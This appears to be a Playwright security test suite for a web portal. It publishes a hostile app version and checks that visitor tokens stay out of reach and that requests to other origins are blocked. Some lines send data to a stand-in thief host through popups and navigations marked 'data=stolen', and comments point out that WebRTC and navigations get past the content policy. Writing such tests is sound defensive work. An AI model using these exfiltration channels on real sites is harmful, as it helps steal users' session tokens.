import { pathOf } from '@home-move/contract';
import type { Locator, Page } from '@playwright/test';
import { attack, type Loot } from '../../fixtures/hostile-code.js';
import { prepareEnrolment } from '../../fixtures/prepared-enrolment.js';
import { test } from '../../fixtures/remote-versions.js';
import { logInTab } from '../../fixtures/tabs.js';
import { expect } from '../../fixtures/test.js';
import { openHostPage } from '../../pages/host-page.js';
import { journeyIn } from '../../pages/journey.js';
import { PartnerPage } from '../../pages/partner.page.js';
import { assetsSite, pathIn } from '../../support/addresses.js';
import { aMover } from '../../support/mover.js';
import { atMount, pin, pinnedBrand, statusOf } from '../../support/registry.js';
import { Thief } from '../../support/thief.js';

const lootIn = (root: Locator) => root.evaluate(() => Reflect.get(window, 'loot') as Loot);
const lootOf = (page: Page) => lootIn(page.locator('html'));

/** The built-ins that tokens do not pass through. */
const replaceable = [
  'Array.prototype.map',
  'Array.prototype.filter',
  'Array iterator',
  'RegExp.prototype.exec',
  'RegExp.prototype.test',
  'Map.prototype.get',
  'Map.prototype.set',
  'Storage.prototype.setItem',
  'Storage.prototype.getItem',
  'BroadcastChannel.prototype.postMessage',
  'Function.prototype.bind',
  'btoa',
  'atob',
  'setTimeout',
  'queueMicrotask',
  'Reflect.get',
];

/** Opens the page again in a new tab, and reads its document until the portal is shown there. */
async function peekIntoPopup(page: Page): Promise<readonly string[]> {
  const opened = page.waitForEvent('popup');
  await page.evaluate(() => {
    const read: string[] = [];
    const other = window.open(window.location.href);
    const peek = () => {
      try {
        const text = other?.document.documentElement.outerHTML ?? '';
        if (text.includes('hm-') && !read.includes(text)) read.push(text);
      } catch {
        // Out of reach.
      }
    };
    setInterval(peek, 0);
    Reflect.set(window, 'readInPopup', read);
  });
  const popup = await opened;
  await expect(journeyIn(popup).productSelection.title).toBeVisible();
  await popup.close();
  return page.evaluate(() => Reflect.get(window, 'readInPopup') as string[]);
}

test(
  'a hostile version finds no token of the visitor, and sends nothing to another origin while the page stays',
  { tag: ['@full', '@shell'] },
  async ({ page, journey, header, versions }) => {
    const thief = await Thief.start();
    const client = await prepareEnrolment(aMover({ wants: 'all' }), 'councilWater', pinnedBrand);
    const endings = [client.tokens.refresh_token.slice(-16)];
    const target = JSON.stringify({ host: thief.host, stun: thief.stun, scope: pinnedBrand, endings });
    const { broken: hostile } = await versions.publishBroken(atMount(`(${String(attack)})(${target})`));
    // The first call renews the session.
    await logInTab(page, { ...client.tokens, access_token: 'expired' }, pinnedBrand);
    await page.goto(pathIn(pinnedBrand, pathOf('council-services-upfront')));
    await expect(journey.councilWater.council.card).toContainText('Bedford Borough Council');

    await test.step('requests, frames, scripts, styles and workers are blocked', async () => {
      await expect.poll(async () => (await lootOf(page)).tokens['react'], { timeout: 30_000 }).toBeDefined();
      await expect.poll(async () => Object.values((await lootOf(page)).attempts)).not.toContain('started');
      const { attempts } = await lootOf(page);
      expect(attempts['service worker']).toContain('Content Security Policy');
      // No browser implements the policy's directive for WebRTC yet: its packets do leave.
      await expect.poll(() => thief.received()).toEqual(['/webrtc']);
    });

    await test.step('operators see the attempts', async () => {
      await expect
        .poll(
          async () => (await statusOf(hostile)).health.brands.flatMap(({ faults }) => faults.map(({ code }) => code)),
          {
            timeout: 30_000,
          },
        )
        .toContain('HM-702');
    });

    await test.step('sheets are refused; elements of the shell can be changed', async () => {
      expect((await lootOf(page)).restyled).toEqual({
        'style element': false,
        'adopted sheet': false,
        'style attribute': false,
        'properties of an element': true,
      });
      await expect(header.bar).toBeVisible();
    });

    await test.step('no token of the visitor is in reach', async () => {
      await journey.councilWater.next.click();
      await expect(journey.productSelection.title).toBeVisible();
      // Another tab gets the session of this one.
      const other = await page.context().newPage();
      await other.goto(pathIn(pinnedBrand, pathOf('product-selection')));
      await expect(journeyIn(other).productSelection.title).toBeVisible();
      await other.close();
      const { tokens, replaced } = await lootOf(page);
      expect(Object.keys(replaced).filter((name) => replaced[name])).toEqual(replaceable);
      expect(Object.entries(tokens).filter(([, count]) => count > 0)).toEqual([]);
    });

    await test.step('a page of the portal that it opens is out of reach', async () => {
      expect(await peekIntoPopup(page)).toEqual([]);
    });

    await test.step('windows and navigations are not covered by any policy', async () => {
      const at = (path: string) => `http://${thief.host}/${path}?data=stolen`;
      const opened = page.waitForEvent('popup');
      await page.evaluate((url) => void window.open(url), at('window'));
      await (await opened).close();
      await page.evaluate((url) => window.location.assign(url), at('navigation'));
      await page.waitForURL(/navigation/);
      expect(thief.received()).toEqual(['/navigation', '/webrtc', '/window']);
    });
    await thief.end();
    await pin(null);
  },
);

test(
  'in a frame, a hostile version finds no token either',
  { tag: ['@full', '@shell'] },
  async ({ page, versions }) => {
    const thief = await Thief.start();
    const { tokens } = await prepareEnrolment(aMover({ wants: 'all' }), 'councilWater', pinnedBrand);
    const scope = PartnerPage.scopeOf(pinnedBrand);
    const target = { host: thief.host, stun: thief.stun, scope, endings: [tokens.refresh_token.slice(-16)] };
    await versions.publishBroken(atMount(`(${String(attack)})(${JSON.stringify(target)})`));
    const partner = new PartnerPage(page);
    const root = partner.frame.locator('html');
    await partner.logIn({ ...tokens, access_token: 'expired' }, pinnedBrand);
    await openHostPage(page, `<script async src="${assetsSite}/v1/loader.js" data-brand="${pinnedBrand}"></script>`);
    await expect(partner.journey.councilWater.council.card).toContainText('Bedford Borough Council');

    await expect.poll(async () => (await lootIn(root)).tokens['react'], { timeout: 30_000 }).toBeDefined();
    await partner.journey.councilWater.next.click();
    await expect(partner.journey.productSelection.title).toBeVisible();
    const found = (await lootIn(root)).tokens;
    expect(Object.keys(found)).toContain('keys');
    expect(Object.entries(found).filter(([, count]) => count > 0)).toEqual([]);
    expect(await root.evaluate((_, name) => sessionStorage.getItem(name), `hm.${scope}.userToken`)).toMatch(/^sealed:/);
    await thief.end();
    await pin(null);
  },
);
